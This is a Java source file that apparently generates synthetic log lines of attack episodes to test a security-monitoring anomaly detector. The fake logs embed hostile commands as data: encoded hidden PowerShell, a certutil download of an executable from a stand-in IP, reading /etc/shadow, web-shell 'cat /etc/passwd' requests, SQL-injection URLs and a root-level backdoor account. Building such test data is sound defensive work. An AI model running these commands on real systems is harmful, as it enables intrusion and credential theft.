package io.nanosiem.conformance.ml;

import io.nanosiem.conformance.ml.LogSite.Person;
import io.nanosiem.conformance.ml.LogSite.Role;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * What goes wrong at the site of {@link LogWeeks}: families of attacks, each episode of its own
 * making. Most leave a line that is strange by itself; those of {@link #HIDDEN} do not, and a
 * detector that looks at one event at a time is not expected to find them. They are here to show
 * what such a detector is not for.
 */
final class LogAttacks {
  /** Families of which each single event is ordinary. */
  static final List<String> HIDDEN =
      List.of("slow-guessing", "stolen-session", "beacon", "slow-leak");

  private final Dice dice;
  private final LogSite site;
  private final Instant start;
  private final int weeks;
  private final int clock;
  private final List<LogLine> lines;
  private String family = "";
  private String episode = "";

  LogAttacks(Dice dice, LogSite site, Instant start, int weeks, int clock, List<LogLine> lines) {
    this.dice = dice;
    this.site = site;
    this.start = start;
    this.weeks = weeks;
    this.clock = clock;
    this.lines = lines;
  }

  void write(int episodes) {
    Map<String, Runnable> families = new LinkedHashMap<>();
    families.put("rare-program", this::rareProgram);
    families.put("night-login", this::nightLogin);
    families.put("odd-port", this::oddPort);
    families.put("giant-transfer", this::giantTransfer);
    families.put("foreign-login", this::foreignLogin);
    families.put("odd-command", this::oddCommand);
    families.put("new-message", this::newMessage);
    families.put("huge-url", this::hugeUrl);
    families.put("first-sudo", this::firstSudo);
    families.put("new-account", this::newAccount);
    families.put("log-wiped", this::logWiped);
    families.put("web-shell", this::webShell);
    families.put("port-scan", this::portScan);
    families.put("name-tunnel", this::nameTunnel);
    families.put("service-abuse", this::serviceAbuse);
    families.put("slow-guessing", this::slowGuessing);
    families.put("stolen-session", this::stolenSession);
    families.put("beacon", this::beacon);
    families.put("slow-leak", this::slowLeak);
    families.forEach(
        (name, story) -> {
          family = name;
          for (int i = 1; i <= episodes; i++) {
            episode = name + "-" + i;
            story.run();
          }
        });
  }

  private void add(Instant time, String text) {
    lines.add(new LogLine(time, text, family, episode));
  }

  private Instant anyTime() {
    return start.plusSeconds(dice.between(0, weeks * LogWeeks.WEEK - 90_000));
  }

  /** On a workday between nine and four in the afternoon. */
  private Instant inHours() {
    return workdays().plusSeconds((long) (3600 * (dice.uniform(9, 16) - clock)));
  }

  /** Between one and five in the night. */
  private Instant atNight() {
    return workdays().plusSeconds((long) (3600 * (dice.uniform(1, 5) - clock)));
  }

  private Instant workdays() {
    return start.plusSeconds(
        (long) dice.between(0, weeks) * LogWeeks.WEEK + dice.between(0, 5) * 86_400L);
  }

  private Person person(Role role) {
    while (true) {
      List<Person> people = site.people(0);
      Person person = people.get(dice.between(0, people.size()));
      if (person.role() == role) {
        return person;
      }
    }
  }

  private String server() {
    return dice.of(LogSite.SERVERS);
  }

  private int pid() {
    return dice.between(600, 32_000);
  }

  private int port() {
    return dice.between(32_768, 61_000);
  }

  // One line gives them away.

  private void rareProgram() {
    Instant time = anyTime();
    String host = server();
    String tag = dice.of("kdevtmpfsd", "socat", ".x86", "chisel", "xmr-proxy") + "[" + pid() + "]";
    for (String text :
        new String[] {
          "listening on 0.0.0.0:" + dice.between(2_000, 60_000),
          "session established with 192.0.2." + dice.between(1, 120),
          "worker threads " + dice.between(2, 32)
        }) {
      add(time, LogText.bsd(30, time, host, tag, text));
      time = time.plusSeconds(dice.between(1, 600));
    }
  }

  private void nightLogin() {
    Person person = person(Role.DEVELOPER);
    Instant time = atNight();
    String host = person.servers().get(dice.between(0, person.servers().size()));
    String tag = "sshd[" + pid() + "]";
    add(
        time,
        LogText.bsd(
            38,
            time,
            host,
            tag,
            "Accepted password for "
                + person.name()
                + " from "
                + person.home()
                + " port "
                + port()
                + " ssh2"));
    add(
        time,
        LogText.bsd(
            86,
            time,
            host,
            tag,
            "pam_unix(sshd:session): session opened for user "
                + person.name()
                + "(uid=1044) by (uid=0)"));
  }

  private void oddPort() {
    Instant time = anyTime();
    String source = LogSite.address(server());
    String destination = "192.0.2." + dice.between(1, 120);
    int port = Integer.parseInt(dice.of("4444", "6667", "1337", "9001", "31337", "14444"));
    for (int n = 3 + dice.poisson(3); n > 0; n--) {
      add(
          time,
          LogText.firewall(
              time,
              "allow",
              source,
              port(),
              destination,
              port,
              "TCP",
              dice.size(900, 0.8),
              dice.size(900, 0.8),
              dice.size(300, 1)));
      time = time.plusSeconds(dice.between(60, 2000));
    }
  }

  private void giantTransfer() {
    Instant time = anyTime();
    Person person = person(Role.OFFICE);
    for (int n = 1 + dice.poisson(1); n > 0; n--) {
      add(
          time,
          LogText.firewall(
              time,
              "allow",
              person.desk(),
              port(),
              "198.51.100." + dice.between(1, 60),
              443,
              "TCP",
              dice.size(90_000, 0.5),
              (long) dice.logNormal(2e10, 0.8),
              (long) dice.logNormal(5_000, 0.5)));
      time = time.plusSeconds(dice.between(600, 7200));
    }
  }

  private void foreignLogin() {
    Person person = person(dice.chance(0.5) ? Role.DEVELOPER : Role.OFFICE);
    Instant time = inHours();
    String from =
        dice.chance(0.3) ? "2001:db8:bad::" + dice.hex(3) : "192.0.2." + dice.between(1, 120);
    add(
        time,
        LogText.syslog(
            30,
            time,
            "vpn1",
            "openvpn",
            911,
            "user " + person.name() + " authenticated from " + from));
    Instant then = time.plusSeconds(dice.between(20, 400));
    add(
        then,
        LogText.bsd(
            38,
            then,
            "bastion1",
            "sshd[" + pid() + "]",
            "Accepted password for "
                + person.name()
                + " from "
                + from
                + " port "
                + port()
                + " ssh2"));
  }

  private void oddCommand() {
    Person person = person(Role.OFFICE);
    Instant time = inHours();
    for (int n = 1 + dice.poisson(1); n > 0; n--) {
      String command =
          switch (dice.between(0, 3)) {
            case 0 -> "powershell.exe -nop -w hidden -enc " + dice.hex(dice.between(200, 900));
            case 1 -> "rundll32.exe C:\\\\Users\\\\Public\\\\" + dice.hex(8) + ".dat,Entry";
            default ->
                "certutil.exe -urlcache -f http://192.0.2."
                    + dice.between(1, 120)
                    + "/a C:\\\\Users\\\\Public\\\\a.exe";
          };
      add(
          time,
          LogText.windows(
              time,
              "pc-" + person.name() + ".corp.example",
              4688,
              "\"SubjectUserName\":\""
                  + person.name()
                  + "\",\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\"
                  + command.substring(0, command.indexOf(' '))
                  + "\",\"CommandLine\":\""
                  + command
                  + "\""));
      time = time.plusSeconds(dice.between(3, 300));
    }
  }

  private void newMessage() {
    Instant time = anyTime();
    switch (dice.between(0, 3)) {
      case 0 -> {
        String host = server();
        add(
            time,
            LogText.bsd(
                34,
                time,
                host,
                "sshd[" + pid() + "]",
                "fatal: mm_answer_authpassword: unexpected request in monitor state 3"));
        add(
            time.plusSeconds(1),
            LogText.bsd(
                2,
                time.plusSeconds(1),
                host,
                "kernel",
                "sshd[" + pid() + "]: segfault at 7f00 ip 00007f3a sp 00007ffe error 14"));
      }
      case 1 ->
          add(
              time,
              LogText.shop(
                  time,
                  "app1",
                  "error",
                  "guest",
                  "198.51.100." + dice.between(60, 250),
                  "refused to read object of class org.gadget.Chain from cookie cart",
                  dice.size(40, 0.5)));
      default ->
          add(
              time,
              LogText.syslog(
                  131,
                  time,
                  "db1",
                  "postgres",
                  pid(),
                  "COPY FROM PROGRAM was called by role shop_ro, permission denied"));
    }
  }

  private void hugeUrl() {
    Instant time = anyTime();
    String client = "198.51.100." + dice.between(60, 250);
    for (int n = 2 + dice.poisson(3); n > 0; n--) {
      String query =
          dice.chance(0.5)
              ? "1%27%20UNION%20SELECT%20" + "null%2C".repeat(dice.between(20, 200))
              : "%24%7B" + dice.hex(dice.between(300, 2500)) + "%7D";
      String line =
          LogText.access(
              time,
              client,
              "GET",
              "/shop/search?q=" + query,
              dice.chance(0.7) ? 200 : 500,
              dice.size(6_000, 0.8),
              "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0");
      add(time, dice.chance(0.5) ? line : LogText.bsd(190, time, "web2", "nginx[812]", line));
      time = time.plusSeconds(dice.between(2, 90));
    }
  }

  private void firstSudo() {
    Instant time = inHours();
    String user;
    do {
      user = person(Role.DEVELOPER).name();
    } while (isSudoer(user));
    String host = dice.of("bastion1", "build1");
    for (int n = 1 + dice.poisson(1.5); n > 0; n--) {
      add(
          time,
          LogWeeks.sudo(
              time,
              host,
              user,
              dice.of(
                  "/usr/bin/bash", "/usr/bin/cat /etc/shadow", "/usr/bin/less /var/log/auth.log")));
      time = time.plusSeconds(dice.between(5, 200));
    }
  }

  private boolean isSudoer(String user) {
    return site.people(0).stream().anyMatch(p -> p.name().equals(user) && p.sudoer());
  }

  private void newAccount() {
    Instant time = anyTime();
    String name = dice.of("sysadm", "support", "mysqld2", "backupop");
    if (dice.chance(0.5)) {
      String host = server();
      add(
          time,
          LogText.bsd(
              85,
              time,
              host,
              "useradd[" + pid() + "]",
              "new user: name=" + name + ", UID=0, GID=0, home=/root, shell=/bin/bash"));
      add(
          time.plusSeconds(4),
          LogText.bsd(
              85,
              time.plusSeconds(4),
              host,
              "usermod[" + pid() + "]",
              "add '" + name + "' to group 'sudo'"));
    } else {
      for (int id : new int[] {4720, 4732}) {
        add(
            time,
            LogText.windows(
                time,
                "dc1.corp.example",
                id,
                "\"TargetUserName\":\""
                    + name
                    + "\",\"SubjectUserName\":\""
                    + person(Role.OFFICE).name()
                    + "\""));
        time = time.plusSeconds(3);
      }
    }
  }

  private void logWiped() {
    Instant time = anyTime();
    if (dice.chance(0.5)) {
      add(
          time,
          LogText.windows(
              time,
              "dc1.corp.example",
              1102,
              "\"SubjectUserName\":\"" + person(Role.ADMINISTRATOR).name() + "\""));
    } else {
      add(
          time,
          LogText.bsd(
              46,
              time,
              server(),
              "rsyslogd",
              "[origin software=\"rsyslogd\" x-pid=\"" + pid() + "\"] exiting on signal 15."));
    }
  }

  private void webShell() {
    Instant time = anyTime();
    String client = "198.51.100." + dice.between(60, 250);
    String path = "/assets/upload/" + dice.hex(6) + ".php";
    for (int n = 3 + dice.poisson(6); n > 0; n--) {
      String line =
          LogText.access(
              time,
              client,
              "POST",
              path + "?c=" + dice.of("id", "whoami", "ls%20-la", "cat%20%2Fetc%2Fpasswd"),
              200,
              dice.size(400, 1),
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/121.0 Safari/537.36");
      add(time, dice.chance(0.5) ? line : LogText.bsd(190, time, "web2", "nginx[812]", line));
      time = time.plusSeconds(dice.between(4, 200));
    }
  }

  private void portScan() {
    Instant time = anyTime();
    Person person = person(Role.OFFICE);
    for (int n = 25 + dice.poisson(10); n > 0; n--) {
      add(
          time,
          LogText.firewall(
              time,
              "deny",
              person.desk(),
              port(),
              "10.20.1." + dice.between(10, 20),
              dice.between(1, 65_535),
              "TCP",
              0,
              44,
              0));
      time = time.plusMillis(dice.between(50, 3000));
    }
  }

  private void nameTunnel() {
    Instant time = anyTime();
    String client = "10.20.2." + dice.between(10, 70);
    for (int n = 12 + dice.poisson(8); n > 0; n--) {
      add(
          time,
          LogText.syslog(
              30,
              time,
              "dns1",
              "unbound",
              440,
              "info: "
                  + client
                  + " "
                  + dice.hex(60)
                  + "."
                  + dice.hex(60)
                  + "."
                  + dice.hex(dice.between(10, 50))
                  + ".t.vendor99.example. TXT IN"));
      time = time.plusSeconds(dice.between(1, 30));
    }
  }

  private void serviceAbuse() {
    Instant time = inHours();
    Person person = person(Role.OFFICE);
    String host = server();
    add(
        time,
        LogText.bsd(
            38,
            time,
            host,
            "sshd[" + pid() + "]",
            "Accepted password for svc-backup from "
                + person.desk()
                + " port "
                + port()
                + " ssh2"));
    add(
        time.plusSeconds(20),
        LogWeeks.sudo(time.plusSeconds(20), host, "svc-backup", "/usr/bin/tar cf - /srv /etc"));
  }

  // Each line is as others are.

  private void slowGuessing() {
    Instant time = inHours();
    String from = "198.51.100." + dice.between(1, 250);
    for (int n = 20; n > 0; n--) {
      add(
          time,
          LogText.bsd(
              38,
              time,
              "bastion1",
              "sshd[" + pid() + "]",
              "Failed password for "
                  + person(Role.DEVELOPER).name()
                  + " from "
                  + from
                  + " port "
                  + port()
                  + " ssh2"));
      time = time.plusSeconds(dice.between(400, 1500));
    }
  }

  private void stolenSession() {
    Instant time = inHours();
    Person person = person(Role.OFFICE);
    for (int n = 8 + dice.poisson(4); n > 0; n--) {
      add(
          time,
          LogText.shop(
              time,
              dice.of("app1", "app2"),
              "info",
              person.name(),
              person.desk(),
              "order " + dice.between(100_000, 900_000) + " opened",
              dice.size(60, 0.9)));
      time = time.plusSeconds(dice.between(20, 300));
    }
  }

  private void beacon() {
    Instant time = anyTime();
    Person person = person(Role.OFFICE);
    String to = "198.51.100." + dice.between(1, 60);
    for (int n = 30; n > 0; n--) {
      add(
          time,
          LogText.firewall(time, "allow", person.desk(), port(), to, 443, "TCP", 2_210, 1_480, 2));
      time = time.plusSeconds(300 + dice.between(-9, 10));
    }
  }

  private void slowLeak() {
    Instant time = inHours();
    Person person = person(Role.OFFICE);
    String to = "198.51.100." + dice.between(1, 60);
    for (int n = 15; n > 0; n--) {
      add(
          time,
          LogText.firewall(
              time,
              "allow",
              person.desk(),
              port(),
              to,
              443,
              "TCP",
              dice.size(3_000, 0.5),
              dice.size(150_000, 0.4),
              dice.size(20, 1)));
      time = time.plusSeconds(dice.between(300, 1200));
    }
  }
}
